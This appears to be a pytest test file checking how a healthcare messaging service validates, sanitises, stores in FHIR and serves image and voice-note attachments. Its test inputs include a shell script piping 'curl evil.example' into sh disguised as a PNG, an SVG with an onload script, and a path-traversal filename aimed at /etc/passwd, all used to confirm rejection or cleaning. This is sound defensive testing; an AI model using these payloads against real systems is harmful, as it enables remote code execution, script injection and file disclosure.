"""Images and voice notes: checked by content, cleaned, stored in FHIR, handed back safely."""

import io
import wave

import httpx
import pytest
from fhir.resources.R4B.binary import Binary
from fhir.resources.R4B.communication import Communication
from sqlalchemy import func, select

from app.config import Settings
from app.db import create_engine, create_sessionmaker
from app.fhir.models import FhirResource
from app.main import create_app
from app.messaging.models import Message
from tests.support.app import running_client
from tests.support.auth import Account
from tests.support.conversations import Thread
from tests.support.fhir import fhir_gateway
from tests.support.media import gps_of, jpeg_with_gps, png, wav
from tests.support.world import call, ok


def samples_of(data: bytes) -> bytes:
    with wave.open(io.BytesIO(data), "rb") as audio:
        return bytes(audio.readframes(audio.getnframes()))


async def upload(
    client: httpx.AsyncClient,
    thread: Thread,
    sender: Account,
    data: bytes,
    *,
    filename: str = "file.bin",
    content_type: str = "application/octet-stream",
    text: str | None = None,
) -> httpx.Response:
    fields = {"text": text} if text is not None else {}
    return await client.post(
        f"{thread.url}/messages",
        files={"file": (filename, data, content_type)},
        data=fields,
        headers=sender.headers,
    )


async def counts(settings: Settings) -> tuple[int, int]:
    engine = create_engine(settings.database_url)
    try:
        async with create_sessionmaker(engine)() as session:
            messages = await session.scalar(select(func.count()).select_from(Message))
            binaries = await session.scalar(
                select(func.count())
                .select_from(FhirResource)
                .where(FhirResource.resource_type == "Binary")
            )
            return int(messages or 0), int(binaries or 0)
    finally:
        await engine.dispose()


async def test_an_image_is_reencoded_and_loses_its_gps(
    client: httpx.AsyncClient, thread: Thread
) -> None:
    original = jpeg_with_gps()
    assert gps_of(original)  # the test image really carries a location

    sent = await upload(
        client, thread, thread.world.clinician_a, original,
        filename="IMG_0001.JPG", content_type="image/jpeg", text="The rash",
    )  # fmt: skip
    message = sent.json()
    download = await call(
        client,
        "GET",
        f"/api/v1/attachments/{message['attachment']['id']}",
        thread.world.patient_1_user,
    )

    assert sent.status_code == 201, sent.text
    assert message["type"] == "image"
    assert message["text"] == "The rash"
    assert message["attachment"]["content_type"] == "image/jpeg"
    assert message["attachment"]["title"] == "IMG_0001.jpg"
    assert download.status_code == 200
    assert download.headers["content-type"] == "image/jpeg"
    assert download.headers["x-content-type-options"] == "nosniff"
    assert download.headers["content-disposition"] == 'attachment; filename="IMG_0001.jpg"'
    assert download.content != original
    assert gps_of(download.content) == {}
    assert b"PhoneMaker" not in download.content
    assert len(download.content) == message["attachment"]["size"]


@pytest.mark.usefixtures("fhir_url")
async def test_a_voice_note_keeps_its_sound_and_gets_its_duration(
    client: httpx.AsyncClient, thread: Thread
) -> None:
    voice = wav(seconds=1.5)

    sent = await upload(
        client,
        thread,
        thread.world.patient_1_user,
        voice,
        filename="note.wav",
        content_type="audio/wav",
    )
    message = sent.json()
    listened = await call(client, "POST", f"{thread.url}/read", thread.world.clinician_a, json={})
    download = await call(
        client, "GET", f"/api/v1/attachments/{message['id']}", thread.world.clinician_a
    )
    as_sender = (
        await ok(await call(client, "GET", f"{thread.url}/messages", thread.world.patient_1_user))
    )["items"]

    assert sent.status_code == 201, sent.text
    assert message["type"] == "voice"
    assert message["attachment"]["duration_ms"] == 1500
    assert samples_of(download.content) == samples_of(voice)
    assert listened.status_code == 200
    assert as_sender[-1]["read_by"] == [thread.world.clinician_a.id]


@pytest.mark.parametrize(
    ("data", "filename", "content_type"),
    [
        pytest.param(
            b"#!/bin/sh\ncurl evil.example | sh\n", "holiday.png", "image/png", id="script-as-png"
        ),
        pytest.param(b"<svg onload='alert(1)'/>", "x.svg", "image/svg+xml", id="svg"),
        pytest.param(png(), "sound.ogg", "audio/ogg", id="png-declared-as-audio"),
        pytest.param(b"%PDF-1.7\n" + b"0" * 100, "letter.pdf", "application/pdf", id="pdf"),
    ],
)
async def test_files_that_are_not_what_we_accept_are_415_and_write_nothing(
    client: httpx.AsyncClient,
    thread: Thread,
    settings: Settings,
    data: bytes,
    filename: str,
    content_type: str,
) -> None:
    before = await counts(settings)

    response = await upload(
        client, thread, thread.world.clinician_a, data, filename=filename, content_type=content_type
    )

    assert response.status_code == 415
    assert response.headers["content-type"] == "application/problem+json"
    assert await counts(settings) == before


async def test_an_empty_file_is_422_and_a_missing_one_too(
    client: httpx.AsyncClient, thread: Thread
) -> None:
    empty = await upload(
        client, thread, thread.world.clinician_a, b"", filename="x.png", content_type="image/png"
    )
    missing = await client.post(
        f"{thread.url}/messages", data={"text": "no file"}, files={"other": ("a", b"b")},
        headers=thread.world.clinician_a.headers,
    )  # fmt: skip

    assert empty.status_code == 422
    assert empty.json()["errors"][0]["loc"] == ["body", "file"]
    assert missing.status_code == 422


async def test_a_file_over_the_limit_is_413(thread: Thread, settings: Settings) -> None:
    small_limit = settings.model_copy(update={"attachment_max_bytes": 4096})
    before = await counts(settings)

    async with running_client(create_app(small_limit)) as client:
        response = await upload(
            client, thread, thread.world.clinician_a, wav(seconds=2), content_type="audio/wav"
        )

    assert response.status_code == 413
    assert await counts(settings) == before


async def test_attachments_need_the_feature(
    client: httpx.AsyncClient, thread: Thread, admin: Account
) -> None:
    await ok(
        await call(
            client,
            "DELETE",
            f"/api/v1/organisations/{thread.world.org_a}/features/attachments",
            admin,
        )
    )

    response = await upload(
        client, thread, thread.world.clinician_a, png(), content_type="image/png"
    )

    assert response.status_code == 403
    assert response.json()["type"].endswith("feature-disabled")


async def test_an_attachment_is_only_for_those_who_may_read_its_message(
    client: httpx.AsyncClient, thread: Thread
) -> None:
    sent = await ok(
        await upload(
            client, thread, thread.world.clinician_a, png(), filename="../../etc/passwd.png"
        )
    )
    url = f"/api/v1/attachments/{sent['id']}"

    outsider = await call(client, "GET", url, thread.world.clinician_b)
    other_patient = await call(client, "GET", url, thread.world.patient_2_user)
    text_message = (
        await ok(await call(client, "GET", f"{thread.url}/messages", thread.world.clinician_a))
    )["items"][0]
    not_an_attachment = await call(
        client, "GET", f"/api/v1/attachments/{text_message['id']}", thread.world.clinician_a
    )

    assert sent["attachment"]["title"] == "passwd.png"
    assert outsider.status_code == 404
    assert other_patient.status_code == 404
    assert not_an_attachment.status_code == 404


@pytest.mark.usefixtures("fhir_url")
async def test_an_attachment_binary_names_what_guards_it(
    client: httpx.AsyncClient, thread: Thread, settings: Settings
) -> None:
    """A FHIR client that meets the Binary alone can tell whose it is: its securityContext
    is the conversation it was sent in."""
    sent = await ok(
        await upload(
            client, thread, thread.world.clinician_a, png(), filename="rash.png",
            content_type="image/png",
        )
    )  # fmt: skip
    conversation = await ok(await call(client, "GET", thread.url, thread.world.clinician_a))
    async with fhir_gateway(settings) as fhir:
        message = await fhir.read(Communication, sent["fhir_id"])
        payload = message.payload or []
        url = next(item.contentAttachment.url for item in payload if item.contentAttachment)
        binary = await fhir.read(Binary, str(url).rsplit("/", 1)[-1])

    assert binary.securityContext is not None
    assert binary.securityContext.reference == f"Communication/{conversation['fhir_id']}"
